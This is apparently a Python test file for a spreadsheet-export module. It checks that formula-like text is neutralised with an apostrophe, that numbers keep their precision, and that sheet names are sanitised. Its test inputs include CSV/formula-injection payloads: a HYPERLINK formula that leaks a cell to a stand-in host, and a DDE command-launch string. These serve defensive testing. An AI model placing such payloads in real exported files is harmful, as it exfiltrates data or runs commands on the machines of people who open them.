"""The one spreadsheet writer (`lib.xlsx`): text stays text, a cell a spreadsheet program would run
as a formula is neutralised, numbers stay numbers where a spreadsheet keeps them exactly; and no
other module of the platform writes a spreadsheet or a CSV file."""

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from wangge.lib.xlsx import Workbook, neutralise, sheet_name

PACKAGE = Path(__file__).resolve().parents[2]


def written(values: list[object]) -> list[openpyxl.cell.Cell]:
    book = Workbook()
    book.sheet("表").row(0, values)
    sheet = openpyxl.load_workbook(io.BytesIO(book.close())).worksheets[0]
    return [sheet.cell(row=1, column=col) for col in range(1, len(values) + 1)]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_is_written_as_text_with_an_apostrophe_in_front(text):
    (cell,) = written([text])
    # (a carriage return is stored as _x000D_, which openpyxl leaves as it is)
    assert (cell.data_type, cell.value.replace("_x000D_", "\r")) == ("s", "'" + text)
    assert neutralise(text) == "'" + text


def test_other_text_is_written_as_it_is_even_when_it_looks_like_a_number_or_an_address():
    texts = ["王小明", "370102198005170021", "0531-12345678", "http://example.org/", "mailto:a@example.org", "1e5"]
    assert [(c.data_type, c.value, c.hyperlink) for c in written(texts)] == [("s", t, None) for t in texts]


def test_numbers_stay_numbers_unless_a_spreadsheet_would_lose_digits():
    cells = written([42, -3.5, Decimal("2.25"), True, 370102198005170021, float("nan"), None, dt.date(2026, 1, 5)])
    assert [(c.data_type, c.value) for c in cells] == [
        ("n", 42),
        ("n", -3.5),
        ("n", 2.25),
        ("b", True),
        ("s", "370102198005170021"),
        ("s", "nan"),
        ("n", None),
        ("s", "2026-01-05"),
    ]


def test_sheet_names_lose_what_excel_forbids_in_them():
    assert sheet_name("居民[一]:*?/\\名册") == "居民 一" + " " * 6 + "名册"
    assert sheet_name("'引号'") == "引号"
    assert sheet_name("长" * 40) == "长" * 31
    assert sheet_name("''") == "Sheet"


def test_no_other_module_writes_a_spreadsheet_or_a_csv_file():
    writers = re.compile(
        r"\bimport xlsxwriter\b|\bimport openpyxl\b|\bfrom (xlsxwriter|openpyxl)\b|\bcsv\.(writer|DictWriter)\("
    )
    found = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and path != PACKAGE / "lib" / "xlsx.py"
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []
